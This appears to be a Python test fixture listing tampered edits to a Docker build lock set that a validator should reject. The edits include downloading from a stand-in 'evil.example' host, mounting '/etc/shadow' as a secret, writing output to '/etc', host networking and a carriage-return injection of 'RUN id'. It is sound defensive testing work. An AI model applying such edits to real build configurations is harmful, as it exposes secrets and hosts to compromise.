"""Edits of a lock set that reached a server, a host file or a token before they were refused."""

import json
from collections.abc import Callable
from typing import Any

from orbiter.lockset.model import LockSet

DOCKERFILE = "build/debian-base/Dockerfile"
BAKE = "build/docker-bake.json"
ARTIFACTS = "build/debian-base/artifacts-linux-amd64.txt"
PIP = "build/debian-base/pip-linux-amd64.txt"
PACKAGES = "build/debian-base/packages-linux-amd64.json"

Change = Callable[[LockSet], dict[str, str | None]]


def in_dockerfile(old: str, new: str) -> Change:
    def change(lock_set: LockSet) -> dict[str, str | None]:
        text = lock_set.files[DOCKERFILE]
        assert old in text
        return {DOCKERFILE: text.replace(old, new, 1)}

    return change


def in_bake_file(edit: Callable[[dict[str, Any]], object]) -> Change:
    def change(lock_set: LockSet) -> dict[str, str | None]:
        content = json.loads(lock_set.files[BAKE])
        edit(content)
        return {BAKE: json.dumps(content, indent=2, sort_keys=True) + "\n"}

    return change


def target(content: dict[str, Any]) -> dict[str, Any]:
    return dict.__getitem__(content["target"], "debian-base")


def swap_packages(lock_set: LockSet) -> dict[str, str | None]:
    """Return lists that install six in place of attrs."""
    lines = lock_set.files[PIP].splitlines(keepends=True)
    artifacts = lock_set.files[ARTIFACTS].splitlines(keepends=True)
    return {
        PIP: "".join(line for line in lines if "attrs" not in line),
        ARTIFACTS: "".join(line for line in artifacts if "/attrs-" not in line),
    }


def with_file(path: str, text: str) -> Change:
    return lambda _lock_set: {path: text}


VARIANTS: dict[str, tuple[Change, str]] = {
    "step with network": (in_dockerfile("RUN --network=none", "RUN"), DOCKERFILE),
    "step with the default network": (in_dockerfile("=none", "=default"), DOCKERFILE),
    "additional step with network": (
        in_dockerfile("USER 0\n", "USER 0\nRUN python3 -c 'import urllib'\n"),
        DOCKERFILE,
    ),
    "secret mount": (
        in_dockerfile("--mount=type=tmpfs,target=/tmp", "--mount=type=secret,id=token"),
        DOCKERFILE,
    ),
    "ssh mount": (
        in_dockerfile("--mount=type=tmpfs,target=/tmp", "--mount=type=ssh"),
        DOCKERFILE,
    ),
    "mount of another image": (
        in_dockerfile("--mount=type=tmpfs,target=/tmp", "--mount=from=evil/image,target=/x"),
        DOCKERFILE,
    ),
    "artifacts of another stage": (
        in_dockerfile("from=debian-base_pip,", "from=debian-core_pip,"),
        DOCKERFILE,
    ),
    "artifacts that the stage does not have": (
        in_dockerfile(
            "from=debian-base_pip,source=linux-amd64,target=/artifacts/pip",
            "from=debian-base_evil,source=linux-amd64,target=/artifacts/evil",
        ),
        DOCKERFILE,
    ),
    "insecure step": (
        in_dockerfile("RUN --network=none", "RUN --security=insecure --network=none"),
        DOCKERFILE,
    ),
    "another base": (in_dockerfile("FROM debian-core", "FROM evil/image"), DOCKERFILE),
    "another frontend": (
        in_dockerfile("# debian-base,", "# syntax=evil/frontend\n# debian-base,"),
        DOCKERFILE,
    ),
    "download": (in_dockerfile("USER 0\n", "USER 0\nADD https://evil.example/x /x\n"), DOCKERFILE),
    "copy from another image": (
        in_dockerfile("USER 0\n", "USER 0\nCOPY --from=evil/image / /\n"),
        DOCKERFILE,
    ),
    "argument": (in_dockerfile("USER 0\n", "ARG TOKEN\nUSER 0\n"), DOCKERFILE),
    "hermetic label": (in_dockerfile('hermetic="true"', 'hermetic="false"'), DOCKERFILE),
    "end of a script by a carriage return": (
        in_dockerfile("set -eu\n", "set -eu\nPIP\r\nRUN id\n"),
        DOCKERFILE,
    ),
    "context with a host folder": (
        in_bake_file(lambda content: target(content)["contexts"].update(host="/etc")),
        BAKE,
    ),
    "variable of the environment": (
        in_bake_file(lambda content: content["variable"].update(TOKEN={"default": ""})),
        BAKE,
    ),
    "argument of the environment": (
        in_bake_file(lambda content: target(content)["args"].update(TOKEN="${TOKEN}")),
        BAKE,
    ),
    "secret": (
        in_bake_file(lambda content: target(content).update(secret=["id=x,src=/etc/shadow"])),
        BAKE,
    ),
    "ssh agent": (in_bake_file(lambda content: target(content).update(ssh=["default"])), BAKE),
    "entitlement": (
        in_bake_file(lambda content: target(content).update(entitlements=["network.host"])),
        BAKE,
    ),
    "host network": (in_bake_file(lambda content: target(content).update(network="host")), BAKE),
    "local output": (
        in_bake_file(
            lambda content: content["target"].update(
                more={"output": ["type=local,dest=/etc"], "context": "debian-base"}
            )
        ),
        BAKE,
    ),
    "output elsewhere": (
        in_bake_file(lambda content: target(content).update(output=["type=local,dest=/etc"])),
        BAKE,
    ),
    "another exporter": (
        in_bake_file(
            lambda content: target(content).update(
                output=[target(content)["output"][0] + ",annotation.x=y"]
            )
        ),
        BAKE,
    ),
    "bake file that is not JSON": (with_file(BAKE, "{"), BAKE),
    "bake file with a list": (with_file(BAKE, "[]\n"), BAKE),
    "other packages": (swap_packages, ARTIFACTS),
    "another package list": (with_file(PACKAGES, "{}\n"), PACKAGES),
    "additional list": (with_file("build/debian-base/more.txt", ""), "more.txt"),
    "file among the artifacts": (
        with_file("artifacts/debian-base/pip/linux-amd64/x.whl", "evil"),
        "artifacts/debian-base",
    ),
    "file of no kind": (with_file("debian/more.txt", ""), "debian/more.txt"),
}
"""Edits of a lock set, each with the file that the error names."""
